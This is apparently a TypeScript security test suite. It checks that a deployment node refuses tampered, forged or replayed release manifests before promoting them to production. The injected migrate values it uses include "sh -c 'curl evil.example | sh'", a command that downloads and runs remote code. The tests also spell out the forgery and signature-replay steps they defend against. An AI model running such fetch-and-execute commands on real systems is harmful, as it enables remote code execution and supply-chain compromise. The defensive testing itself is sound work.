// Issue 14 §3, attacks on the signed release manifest: a real node (store, release routes,
// rollouts, its own signer), the real auth service and registry (auth on). Each release manifest
// is pushed as an OCI artifact (a referrer of its image; tagged `release-<id>` for a pushed one)
// and signed with the tenant's build key in cosign's layout. Someone with push rights to the app's
// repository, or with write access to the node's store, tries to get another release manifest
// into prod: a release row edited in the store, a forged release manifest (unsigned, or signed
// by another tenant's key), a genuine one hung under another image with its signature replayed.
// Promoting any of them into prod (`require`) is 409 SIGNATURE_INVALID before a target is sent
// anything, and prod's release does not change. The genuine signature is checked by openssl.
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { createHash } from "node:crypto";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { promisify } from "node:util";
import { loadOrCreateBuildKey } from "../../src/auth/build-keys.js";
import { canonicalJson } from "../../src/contract/canonical.js";
import { pushReleaseArtifact } from "../../src/node/releases-oci.js";
import { RELEASE_MANIFEST_MEDIA_TYPE, type Release } from "../../src/node/releases-store.js";
import { signatureMediaTypes, signatureTag } from "../../src/registry/signatures.js";
import { call } from "../support/apps-api.js";
import {
  buildKeyOf,
  lastRollout,
  manifestBytes,
  NODE_KEY,
  promote,
  pushedImage,
  putManifest,
  releaseRunningIn,
  type SignedRolloutNode,
  signatureStep,
  signWith,
  startSignedRolloutNode,
  stepsOf,
  TENANT,
} from "../support/signed-rollouts.js";
import { requireCommand } from "../support/tools.js";

const run = promisify(execFile);
let s: SignedRolloutNode;
let prodRelease: Release;

before(async () => {
  requireCommand("openssl", "openssl");
  s = await startSignedRolloutNode("reg-release-sig-");
  const image = await pushedImage(s, "prod-now");
  await signWith(s, await buildKeyOf(s), image);
  prodRelease = await releaseRunningIn(s, image, "prod");
  await s.node.pipeline!.signatures!.signRelease(TENANT, s.appUuid, prodRelease);
});
after(async () => {
  await s?.close();
});

const sha256 = (bytes: Buffer | string) => `sha256:${createHash("sha256").update(bytes).digest("hex")}`;
const sign = () => s.node.pipeline!.signatures!;
/** Why an artifact with no signature at all is refused. */
const unsignedArtifact = /acme\/[0-9a-f-]+@sha256:[0-9a-f]{64} has no signature by a trusted key/;

/** A signed image whose release runs in test and whose release manifest the node signed. */
async function genuineInTest(label: string): Promise<Release> {
  const image = await pushedImage(s, label);
  await signWith(s, await buildKeyOf(s), image);
  const release = await releaseRunningIn(s, image, "test");
  await sign().signRelease(TENANT, s.appUuid, release);
  return release;
}

/** Edits a release row in the node's store, as someone with write access to it could. */
async function editRow(
  release: Release,
  change: Partial<Pick<Release, "digest" | "manifest">>,
): Promise<Release> {
  const edited = { ...release, ...change };
  await s.node
    .store!.db.updateTable("releases")
    .set({ digest: edited.digest, manifest: JSON.stringify(edited.manifest) })
    .where("id", "=", release.id)
    .execute();
  return edited;
}

/** Pushes a blob into the app's repository; its descriptor's digest and size. */
async function pushBlob(bytes: Buffer): Promise<{ digest: string; size: number }> {
  const digest = sha256(bytes);
  const res = await fetch(`${s.reg.url}/v2/${s.repo}/blobs/uploads/?digest=${digest}`, {
    method: "POST",
    headers: { authorization: `Bearer ${await s.access.pushToken(TENANT, s.appUuid)}` },
    body: bytes,
  });
  assert.equal(res.status, 201, await res.text());
  return { digest, size: bytes.length };
}

/** Pushes `release`'s manifest as an artifact under its image, signed by no one; its digest. */
async function pushUnsigned(release: Release): Promise<string> {
  return pushReleaseArtifact(
    {
      registryUrl: s.reg.url,
      repository: s.repo,
      imageDigest: release.digest,
      token: await s.access.pushToken(TENANT, s.appUuid),
    },
    release,
  );
}

/** Promotes test → prod and asserts the refusal, the record and that prod did not change. */
async function refusedIntoProd(label: string, release: Release, why: RegExp): Promise<void> {
  const refused = await promote(s, release, "test", "prod");
  assert.equal(refused.status, 409, `${label}: ${refused.text}`);
  assert.equal(refused.body.code, "SIGNATURE_INVALID", label);
  assert.match(String(refused.body.error), why, label);
  const record = await lastRollout(s);
  assert.equal(record.status, "failed", label);
  assert.deepEqual(stepsOf(record.events), ["acquire_lock", "verify_signature"], `${label}: no fan-out`);
  assert.equal((await s.releases.history(s.appUuid, "prod")).current?.id, prodRelease.id, `${label}: prod`);
}

describe("signed release manifests", () => {
  it("a genuine release manifest is a signed referrer of its image that openssl verifies, and passes into prod", async () => {
    const release = await genuineInTest("genuine");
    const promoted = await promote(s, release, "test", "prod");
    // Past verify_signature; the one target is a closed port, so the rollout fails there.
    assert.equal(promoted.body.code, "ROLLOUT_FAILED", promoted.text);
    const step = signatureStep((await lastRollout(s)).events);
    assert.equal(step?.verified, true);
    assert.equal(step?.policy, "require");
    const signed = step?.release_manifest as { artifact: string; signature: string };

    // The artifact: the stored manifest's canonical JSON as its one layer, the image as subject.
    const artifact = JSON.parse((await manifestBytes(s, signed.artifact)).toString("utf8"));
    assert.equal(artifact.artifactType, RELEASE_MANIFEST_MEDIA_TYPE);
    assert.equal(artifact.subject.digest, release.digest);
    const stored = await s.releases.find(s.appUuid, release.id);
    assert.equal(artifact.layers[0].digest, sha256(canonicalJson(stored.manifest)));
    // Its signature, in cosign's layout under the `.sig` tag, verified by openssl with the
    // tenant's public key: the signed payload names the artifact.
    const sig = JSON.parse((await manifestBytes(s, signatureTag(signed.artifact))).toString("utf8"));
    assert.equal(sha256(await manifestBytes(s, signatureTag(signed.artifact))), signed.signature);
    const layer = sig.layers[0];
    const token = await s.access.pullToken!(TENANT, s.appUuid);
    const payload = Buffer.from(
      await (
        await fetch(`${s.reg.url}/v2/${s.repo}/blobs/${layer.digest}`, {
          headers: { authorization: `Bearer ${token}` },
        })
      ).arrayBuffer(),
    );
    assert.equal(JSON.parse(payload.toString()).critical.image["docker-manifest-digest"], signed.artifact);
    const key = await loadOrCreateBuildKey(s.nodeData, TENANT);
    const dir = s.nodeData;
    await writeFile(join(dir, "pub.pem"), key.publicKey.export({ type: "spki", format: "pem" }));
    await writeFile(join(dir, "payload.json"), payload);
    await writeFile(
      join(dir, "sig.der"),
      Buffer.from(layer.annotations[signatureMediaTypes.annotation], "base64"),
    );
    const checked = await run("openssl", [
      "dgst",
      "-sha256",
      "-verify",
      join(dir, "pub.pem"),
      "-signature",
      join(dir, "sig.der"),
      join(dir, "payload.json"),
    ]);
    assert.match(checked.stdout, /Verified OK/);
  });

  it("refuses a release manifest that was never signed", async () => {
    const image = await pushedImage(s, "unsigned-manifest");
    await signWith(s, await buildKeyOf(s), image);
    const release = await releaseRunningIn(s, image, "test");
    await pushUnsigned(release);
    await refusedIntoProd("unsigned", release, unsignedArtifact);
  });

  it("refuses a release row edited in the store, and a forged manifest pushed to match it", async () => {
    const release = await genuineInTest("edited-row");
    // The row alone: a migrate command the build never declared.
    const tampered = await editRow(release, {
      manifest: { ...release.manifest, deploy: { migrate: "sh -c 'curl evil.example | sh'" } },
    });
    await refusedIntoProd("row edited", tampered, /carries another manifest than the stored one/);
    // Plus a forged release manifest matching the edit, pushed by someone with push rights.
    await pushUnsigned(tampered);
    await refusedIntoProd("forged manifest", tampered, unsignedArtifact);
  });

  it("refuses a forged release manifest signed by another tenant's key", async () => {
    const release = await genuineInTest("foreign-key");
    const tampered = await editRow(release, {
      manifest: { ...release.manifest, deploy: { migrate: "./evil" } },
    });
    const forged = await pushUnsigned(tampered);
    await signWith(s, await buildKeyOf(s, "globex"), forged);
    await refusedIntoProd("globex's key", tampered, /is not by a trusted key/);
  });

  it("refuses a genuine release manifest hung under another image with its signature replayed", async () => {
    const genuine = await genuineInTest("swap-from");
    const other = await pushedImage(s, "swap-to");
    await signWith(s, await buildKeyOf(s), other);
    const signed = await sign().verifyRelease(TENANT, s.appUuid, genuine);

    // The row pointed at the other image: its own manifest still names the genuine one.
    const retargeted = await editRow(genuine, { digest: other });
    await refusedIntoProd(
      "row digest swapped",
      retargeted,
      /does not match its own manifest, which names digest/,
    );

    // The manifest edited to the other image too, and the genuine artifact rebuilt to match: its
    // subject swapped to the other image, its layer the edited manifest, and the genuine signature
    // manifest re-hung under it. The signed payload still names the genuine artifact.
    const rewritten = await editRow(retargeted, {
      manifest: { ...genuine.manifest, digest: other, image: `${s.host}/${s.repo}@${other}` },
    });
    const layer = await pushBlob(Buffer.from(canonicalJson(rewritten.manifest)));
    const artifact = JSON.parse((await manifestBytes(s, signed.artifact)).toString("utf8"));
    artifact.subject = { ...artifact.subject, digest: other, size: (await manifestBytes(s, other)).length };
    artifact.layers[0] = { ...artifact.layers[0], ...layer };
    const swappedBody = JSON.stringify(artifact);
    const swapped = sha256(swappedBody);
    await putManifest(s, swapped, swappedBody);
    const sig = JSON.parse((await manifestBytes(s, signatureTag(signed.artifact))).toString("utf8"));
    sig.subject = { ...sig.subject, digest: swapped, size: Buffer.byteLength(swappedBody) };
    await putManifest(s, signatureTag(swapped), JSON.stringify(sig));
    await refusedIntoProd(
      "subject swapped",
      rewritten,
      new RegExp(`signature sha256:[0-9a-f]{64} does not name ${swapped}`),
    );
  });

  it("signs a pushed release's manifest under its tag, and refuses it moved to a forged one", async () => {
    const pushed = await call(s.node.url, "POST", "/api/v1/apps/web/releases", {
      token: NODE_KEY,
      body: { version: "v1", manifest_toml: '[app]\nname = "web"\n', files: [] },
    });
    assert.ok(pushed.status === 201, pushed.text);
    const release = await s.releases.find(s.appUuid, String(pushed.body.id));
    // Its first rollout (to prod, the default) got past verify_signature: the manifest is signed.
    const rollout = pushed.body.rollout as { code?: string; state: string };
    assert.equal(rollout.code, "ROLLOUT_FAILED", pushed.text);
    const step = signatureStep((await lastRollout(s)).events);
    assert.equal(step?.verified, true, JSON.stringify(step));
    const tagged = await manifestBytes(s, `release-${release.id}`);
    assert.equal(sha256(tagged), (step?.release_manifest as { artifact?: string } | undefined)?.artifact);
    assert.equal(JSON.parse(tagged.toString()).subject, undefined, "a pushed release has no image");

    // The tag moved to an artifact carrying an edited manifest, and the row edited to match.
    await s.releases.markRunning(release, "test", "test", "release.deploy");
    const tampered = await editRow(release, {
      manifest: { ...release.manifest, deploy: { migrate: "./evil" } },
    });
    const forged = JSON.parse(tagged.toString());
    forged.layers[0] = {
      ...forged.layers[0],
      ...(await pushBlob(Buffer.from(canonicalJson(tampered.manifest)))),
    };
    await putManifest(s, `release-${release.id}`, JSON.stringify(forged));
    const refused = await promote(s, tampered, "test", "prod");
    assert.equal(refused.status, 409, refused.text);
    assert.equal(refused.body.code, "SIGNATURE_INVALID");
    assert.match(String(refused.body.error), unsignedArtifact);
  });
});
